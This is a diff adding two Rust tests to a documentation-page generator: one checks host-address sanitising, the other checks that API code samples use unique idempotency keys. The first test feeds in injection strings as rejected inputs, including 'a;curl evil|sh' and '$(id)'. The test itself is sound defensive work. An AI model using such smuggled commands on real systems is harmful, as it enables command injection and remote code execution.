@@ -139,6 +139,43 @@ fn leaves(example: &Value) -> Vec<String> {
 }
 
 #[test]
+fn the_address_is_the_public_one_or_else_the_host_that_was_asked() {
+    for (public, host, expected) in [
+        (Some("https://ptl.example.com"), Some("10.0.0.7:8080"), "https://ptl.example.com"),
+        (None, Some("10.0.0.7:18600"), "http://10.0.0.7:18600"),
+        (None, Some("[::1]:8080"), "http://[::1]:8080"),
+        (None, Some("ptl.lan"), "http://ptl.lan"),
+        (None, None, LOCAL_ADDRESS),
+        (None, Some(""), LOCAL_ADDRESS),
+        (None, Some("a;curl evil|sh"), LOCAL_ADDRESS),
+        (None, Some("$(id)"), LOCAL_ADDRESS),
+        (None, Some("<script>"), LOCAL_ADDRESS),
+        (None, Some("a\nb"), LOCAL_ADDRESS),
+        (None, Some(&"a".repeat(300)), LOCAL_ADDRESS),
+    ] {
+        assert_eq!(address(public, host), expected, "{public:?} {host:?}");
+    }
+    assert_eq!(drawn().matches(ADDRESS).count(), 1);
+}
+
+#[test]
+fn every_run_of_a_sample_has_an_idempotency_key_of_its_own() {
+    let page = drawn();
+    let samples = part(&page, "generateListings-samples", "<h3");
+    for (language, makes_one) in [
+        ("curl", "KEY=\"$(date +%s)-$$"),
+        ("Python", "uuid.uuid4()"),
+        ("TypeScript", "crypto.randomUUID()"),
+        ("Rust", "now.as_nanos()"),
+    ] {
+        let (_, code) = samples.split_once(&format!("<summary>{language}</summary>")).unwrap();
+        let code = text_of(code.split("</details>").next().unwrap());
+        assert!(code.contains(makes_one) && code.contains("Idempotency-Key"), "{language}: {code}");
+        assert!(!code.contains("order-7-photo-2"), "{language}: {code}");
+    }
+}
+
+#[test]
 fn all_marketplaces_are_named() {
     let page = drawn();
     let platforms = text_of(part(&page, "Platform", "</ul>"));
